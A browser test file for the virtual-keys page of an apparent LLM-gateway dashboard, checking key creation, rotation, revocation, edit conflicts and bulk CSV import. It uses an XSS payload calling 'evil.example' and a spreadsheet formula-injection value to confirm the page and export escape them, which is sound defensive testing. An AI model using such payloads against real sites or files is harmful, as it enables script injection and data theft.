import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
import { accessibilityFaults, browserFile, type Dashboard, startDashboard } from "./browser";

let dashboard: Dashboard;
const hostile = `<img src=x onerror="fetch("//evil.example")">`;

describe.skipIf(browserFile === undefined)("the page of keys", () => {
  beforeAll(async () => {
    dashboard = await startDashboard({ config: { providers: { demo: {} } } });
    const { headgate } = dashboard;
    await headgate.admin("POST", "/api/teams", { name: "search" });
    await headgate.admin("POST", "/api/virtual-keys", { name: "searcher", team: "search", tags: { env: "prod" } });
    await headgate.admin("POST", "/api/virtual-keys", { name: hostile });
  });
  afterEach(() => dashboard?.closeTabs());
  afterAll(async () => {
    await dashboard?.stop();
  });

  test("makes a key with limits whose secret works, shown once", async () => {
    const page = await dashboard.open("/keys");
    await page.getByRole("button", { name: "Create key" }).click();
    const dialog = page.getByRole("dialog");
    await dialog.getByLabel("Name").fill("fresh");
    await dialog.getByRole("button", { name: "Budget", exact: true }).click();
    await dialog.getByLabel("Amount of limit 1").fill("1,000.50");
    await dialog.getByRole("button", { name: "Rate limit" }).click();
    await dialog.getByLabel("Amount of limit 2").fill("60");
    await dialog.getByRole("button", { name: "Create key" }).click();
    const secret = (await dialog.getByLabel("secret", { exact: true }).textContent()) ?? "";
    expect(secret).toStartWith("hg-");
    const answer = await fetch(`${dashboard.headgate.url}/v1/chat/completions`, {
      method: "POST",
      headers: { authorization: `Bearer ${secret}`, "content-type": "application/json" },
      body: JSON.stringify({ model: "demo/echo", messages: [{ role: "user", content: "Hello" }] }),
    });
    expect(answer.status).toBe(200);
    await dialog.getByRole("button", { name: "Done" }).click();
    await page.getByText("$1,000.50 a month").last().waitFor();
    await page.getByText("60 requests a minute").last().waitFor();
    expect(await page.content()).not.toContain(secret);
  });

  test("edits, takes the edit back, rotates, and revokes by the name", async () => {
    await dashboard.headgate.admin("POST", "/api/virtual-keys", { name: "worked-on", models: ["demo/*"] });
    const page = await dashboard.open("/keys?open=worked-on");
    await page.getByRole("button", { name: "Edit" }).click();
    await page.getByLabel("Models", { exact: false }).first().fill("openai/*");
    await page.getByRole("button", { name: "Save changes" }).click();
    await page.getByRole("dialog").getByText("openai/*").waitFor();
    await page.getByRole("button", { name: "Undo" }).click();
    await page.getByRole("dialog").getByText("demo/*").waitFor();
    const choose = async (entry: string) => {
      await page.getByRole("button", { name: "More for worked-on" }).click();
      await page.getByRole("menuitem", { name: entry }).click();
    };
    await choose("Rotate…");
    await page.getByRole("button", { name: "Rotate key" }).click();
    await page.getByLabel("secret", { exact: true }).waitFor();
    await page.getByRole("button", { name: "Done" }).click();
    await page.getByText("Old secret until").waitFor();
    await choose("Revoke…");
    const confirm = page.getByRole("button", { name: "Revoke key" });
    expect(await confirm.isDisabled()).toBe(true);
    await page.getByLabel("Type worked-on to confirm").fill("worked-on");
    await confirm.click();
    await page.getByRole("dialog").getByText("revoked", { exact: true }).waitFor();
  });

  test("lets nobody overwrite what another tab has changed meanwhile", async () => {
    const path = "/api/virtual-keys/searcher";
    const page = await dashboard.open("/keys?open=searcher");
    await page.getByRole("button", { name: "Edit" }).click();
    await page.getByLabel("Models", { exact: false }).first().fill("openai/*");
    await dashboard.headgate.admin("PATCH", path, { tags: { env: "prod", by: "another" } });
    await page.getByRole("button", { name: "Save changes" }).click();
    await page.getByText("Somebody changed it while this was open").waitFor();
    const { models, tags } = JSON.parse(await (await dashboard.headgate.admin("GET", path)).text());
    expect({ models, tags }).toEqual({ models: ["*"], tags: { env: "prod", by: "another" } });
  });

  test("makes many keys from a table, says what is wrong in which line, and gives their secrets once", async () => {
    const page = await dashboard.open("/keys");
    await page.getByRole("button", { name: "Create many" }).click();
    await page.getByLabel("Table").fill("name,expires_at\none,\ntwo,soon\n");
    await page.getByRole("button", { name: "Create keys" }).click();
    await page.getByText("Key 2, expires_at").waitFor();
    await page.getByLabel("Table").fill("name,budget_usd\none,5\n=two,\n");
    await page.getByRole("button", { name: "Create keys" }).click();
    await page.getByText("2 keys are made").waitFor();
    expect(await page.getByRole("button", { name: "Done" }).isDisabled()).toBe(true);
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Download secrets" }).click(),
    ]);
    const lines = (await Bun.file(await download.path()).text()).trim().split("\r\n");
    expect(lines[0]).toBe("name,id,secret");
    expect(lines[1]).toMatch(/^one,[0-9a-f]{32},hg-\w+$/);
    expect(lines[2]).toStartWith("'=two,");
    await page.getByRole("button", { name: "Done" }).click();
    await page.getByRole("row", { name: "=two" }).waitFor();
  });

  test("keeps each filter in the address, and reads it from there", async () => {
    const page = await dashboard.open("/keys");
    for (const filter of ["search:searcher", "team:search", "tag:env:prod"]) {
      await page.getByRole("row", { name: "test" }).waitFor();
      await page.getByRole("combobox", { name: "Filter" }).fill(filter);
      await page.keyboard.press("Enter");
      await page.getByRole("row", { name: "test" }).waitFor({ state: "detached" });
      expect(new URL(page.url()).searchParams.getAll("f")).toEqual([filter]);
      await page.reload();
      await page.getByRole("row", { name: "searcher" }).waitFor();
      expect(await page.getByRole("row").count()).toBe(2);
      await page.getByRole("button", { name: "Clear" }).click();
    }
  });

  test("shows names as text, whatever they say", async () => {
    const page = await dashboard.open("/keys");
    await page.getByText(hostile).click();
    await page.getByRole("dialog").getByText(hostile).waitFor();
    expect(await page.locator("img").count()).toBe(0);
  });

  test("is as axe wants it, with a key open", async () => {
    const page = await dashboard.open("/keys?open=searcher");
    await page.getByText("None of its own").waitFor();
    expect(await accessibilityFaults(page)).toEqual([]);
  });

  test("broke no policy, asked no other host and threw nothing", () => {
    expect(dashboard.faults()).toEqual([]);
  });
});
